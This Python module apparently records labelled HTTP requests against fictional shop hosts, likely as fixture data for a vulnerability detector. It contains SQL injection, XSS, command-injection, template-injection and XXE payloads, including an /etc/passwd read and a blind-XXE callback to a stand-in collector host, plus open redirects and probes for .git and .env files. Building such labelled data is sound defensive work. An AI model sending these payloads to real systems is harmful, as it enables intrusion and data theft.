"""Through the weak hosts with pages; labels say what a careful expert would, from that exchange.

A bare word is sure; `likely:` and `hint:` are signs only. What every answer of a weak host shows
(absent headers, version banners) is added by `tape.py`.
"""

from urllib.parse import quote

from examples.tour.tape import Tape, form, xml

SHOP = "https://shop.example"
ADMIN = "https://admin.shop.example"
LEGACY = "http://legacy.shop.example"
_CACHEABLE = ("info_disclosure", "security_misconfiguration")  # a private page, yet public


def record(tape: Tape) -> None:
    for part in (_shopping, _searching, _forms, _links, _files, _failures):
        part(tape)
    for part in (_back_office, _legacy_visit, _legacy_inputs, _policies):
        part(tape)


# --- shop.example ------------------------------------------------------------------------------


def _shopping(tape: Tape) -> None:
    visit = tape.visit
    visit(f"GET {SHOP}/")
    visit(f"GET {SHOP}/product?id=1")
    visit(f"GET {SHOP}/static/logo.png")
    visit(f"GET {SHOP}/login")
    visit(
        f"POST {SHOP}/login",
        "hint:authentication",
        send=form(user="anna", password="open-sesame-41"),
    )
    visit(
        f"POST {SHOP}/login",
        "session_cookie_flags",
        "hint:csrf",
        send=form(user="anna", password="open-sesame-42"),
    )
    visit(f"GET {SHOP}/account", *_CACHEABLE)
    visit(f"GET {SHOP}/account?print=1", *_CACHEABLE)
    visit(f"GET {SHOP}/gallery", "security_misconfiguration")
    for number in (1001, 1002, 1003):
        visit(f"GET {SHOP}/orders/{number}", "hint:idor")


def _searching(tape: Tape) -> None:
    visit = tape.visit
    visit(f"GET {SHOP}/search?q=socks")
    visit(f"GET {SHOP}/search?q=socks%27", "sql_injection", "likely:info_disclosure")
    visit(
        f"GET {SHOP}/search?q=%27%20UNION%20SELECT%201%20--%20",
        "sql_injection",
        "likely:info_disclosure",
    )
    visit(f"GET {SHOP}/search?q=%27%20OR%20%271%27=%271", "likely:sql_injection", "xss")
    visit(f"GET {SHOP}/product?id=3%27", "sql_injection", "likely:info_disclosure")
    visit(f"GET {SHOP}/product?id=3%20AND", "sql_injection", "likely:info_disclosure")
    visit(f"GET {SHOP}/search?q={quote('<script>alert(1)</script>')}", "xss")
    quoted = quote('"><img src=x onerror=alert(1)>')
    visit(f"GET {SHOP}/search?q={quoted}", "xss")
    visit(f"GET {SHOP}/reviews?author={quote('<b>Anna</b>')}", "xss")
    visit(f"GET {SHOP}/reviews?author=Anna")
    visit(f"GET {SHOP}/missing?page={quote('<svg onload=alert(1)>')}", "xss")


def _forms(tape: Tape) -> None:
    visit = tape.visit
    referer = f"{SHOP}/account"
    visit(
        f"POST {SHOP}/account/email",
        "csrf",
        send=form(email="anna@mail.example"),
        referer=referer,
    )
    visit(f"GET {SHOP}/account?saved=1", *_CACHEABLE)
    visit(
        f"POST {SHOP}/account/password",
        "csrf",
        send=form(new_password="open-sesame-43"),
        referer=referer,
    )
    visit(f"POST {SHOP}/newsletter", "likely:csrf", send=form(on="1"), origin=SHOP)
    visit(f"POST {SHOP}/account/delete", "csrf", send=form(confirm="yes"), referer=referer)


def _links(tape: Tape) -> None:
    visit = tape.visit
    visit(f"GET {SHOP}/go?to={quote('https://evil.example/login', safe='')}", "open_redirect")
    visit(f"GET {SHOP}/go?url=//evil.example/", "open_redirect")
    visit(f"GET {SHOP}/go?to=/product%3Fid=2")
    visit(
        f"POST {SHOP}/login?next=https://evil.example/after",
        "open_redirect",
        "session_cookie_flags",
        "hint:csrf",
        send=form(user="anna", password="open-sesame-42"),
    )
    visit(f"GET {SHOP}/reset?token=8f2b1c7de04a4f6b9a35c1d27e6f0b94", "info_disclosure")
    visit(f"GET {SHOP}/login?user=anna&password=open-sesame-42", "info_disclosure")
    visit(f"GET {SHOP}/account?sessionid={'5c' * 16}", "info_disclosure")
    visit(f"GET {SHOP}/logout")
    visit(f"GET {SHOP}/nothing-here")


def _files(tape: Tape) -> None:
    leftovers = ("/.git/config", "/.git/HEAD", "/.env", "/backup.sql", "/config.php.bak")
    scripts = ("/static/maps.js", "/static/chat.js")
    for path in ("/uploads/", *leftovers, *scripts):
        tape.visit(f"GET {SHOP}{path}", "info_disclosure")


def _failures(tape: Tape) -> None:
    tape.visit(f"GET {SHOP}/checkout?voucher=SPRING", "info_disclosure")
    tape.visit(f"GET {SHOP}/stats", "info_disclosure")
    tape.visit(f"GET {SHOP}/debug", "info_disclosure", "security_misconfiguration")


# --- admin.shop.example ------------------------------------------------------------------------


def _back_office(tape: Tape) -> None:
    visit = tape.visit
    visit(f"GET {ADMIN}/users", "broken_access_control", "likely:info_disclosure")
    visit(f"GET {ADMIN}/settings", "likely:broken_access_control")
    visit(f"GET {ADMIN}/export.csv", "broken_access_control", "info_disclosure")
    visit(f"DELETE {ADMIN}/users/7", "broken_access_control")
    visit(f"GET {ADMIN}/tools/ping?host=192.0.2.10", "likely:broken_access_control")
    for command in ("192.0.2.10%3Bid", "192.0.2.10%7Cid"):
        visit(
            f"GET {ADMIN}/tools/ping?host={command}",
            "command_injection",
            "likely:broken_access_control",
        )
    for subject in ("{{7*7}}", "Hello ${7*191}"):
        visit(
            f"POST {ADMIN}/mails/preview",
            "ssti",
            "likely:broken_access_control",
            send=form(subject=subject),
        )
    for path in ("/phpinfo.php", "/actuator/env", "/server-status", "/exports/"):
        visit(f"GET {ADMIN}{path}", "info_disclosure")
    visit(f"GET {ADMIN}/console", "security_misconfiguration")


# --- legacy.shop.example -----------------------------------------------------------------------


def _legacy_visit(tape: Tape) -> None:
    visit = tape.visit
    visit(f"GET {LEGACY}/")
    visit(f"GET {LEGACY}/login.php", "authentication")
    visit(
        f"POST {LEGACY}/login.php",
        "authentication",
        "session_cookie_flags",
        "hint:csrf",
        send=form(user="anna", password="open-sesame-42"),
    )
    visit(f"GET {LEGACY}/home.php")
    visit(f"GET {LEGACY}/de.php", "info_disclosure")
    visit(f"GET {LEGACY}/stats/", "likely:authentication")
    for user in ("YW5uYTpvcGVuLXNlc2FtZS00Mg==", "YmVuOmhhcmJvdXItODE="):
        visit(f"GET {LEGACY}/stats/", "authentication", authorization=f"Basic {user}")
    visit(f"GET {LEGACY}/cart.aspx")
    visit(f"GET {LEGACY}/error.aspx", "info_disclosure")
    visit(f"GET {LEGACY}/basket;jsessionid={'3B9F' * 8}", "info_disclosure")
    visit(f"GET {LEGACY}/old/", "info_disclosure")


_PASSWD = '<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n'
_HOSTS = _PASSWD.replace("passwd", "hosts")
_ITEM = "<products><product><name>{}</name></product></products>\n"


def _legacy_inputs(tape: Tape) -> None:
    visit = tape.visit
    visit(f"GET {LEGACY}/article.php?id=2")
    for number in ("2%27", "2%27%22"):
        visit(f"GET {LEGACY}/article.php?id={number}", "sql_injection")
    visit(f"POST {LEGACY}/guestbook.php", "likely:csrf", send=form(text="Lovely socks"))
    visit(
        f"POST {LEGACY}/guestbook.php",
        "xss",
        "likely:csrf",
        send=form(text="<script>alert(1)</script>"),
    )
    visit(f"POST {LEGACY}/import.php", send=xml(_ITEM.format("Felt hat")))
    visit(f"POST {LEGACY}/import.php", "xxe", send=xml(_PASSWD + _ITEM.format("&f;")))
    visit(f"POST {LEGACY}/import.php", "xxe", send=xml(_HOSTS + _ITEM.format("&f;")))
    blind = _PASSWD.replace("file:///etc/passwd", "http://collect.example/x")
    visit(f"POST {LEGACY}/import.php", "hint:xxe", send=xml(blind + _ITEM.format("&f;")))
    visit(f"GET {LEGACY}/prefs.php", "likely:deserialization")
    visit(f"GET {LEGACY}/prefs.php", "likely:deserialization")
    broken = "prefs=Tzo1OiJQcmVmcyI6MTp7czo0OiJsYW5nIjtzOjI6"
    visit(f"GET {LEGACY}/prefs.php", "deserialization", cookie=broken)
    visit(f"GET {LEGACY}/checkout.jsp", "likely:deserialization")


# --- hosts with one weak policy ----------------------------------------------------------------


def _policies(tape: Tape) -> None:
    tape.visit("GET https://beta.shop.example/")
    tape.visit("GET https://beta.shop.example/news")
    tape.visit(
        "POST https://beta.shop.example/login",
        "session_cookie_flags",
        send=form(user="anna", password="open-sesame-42"),
    )
    tape.visit("GET https://labs.shop.example/")
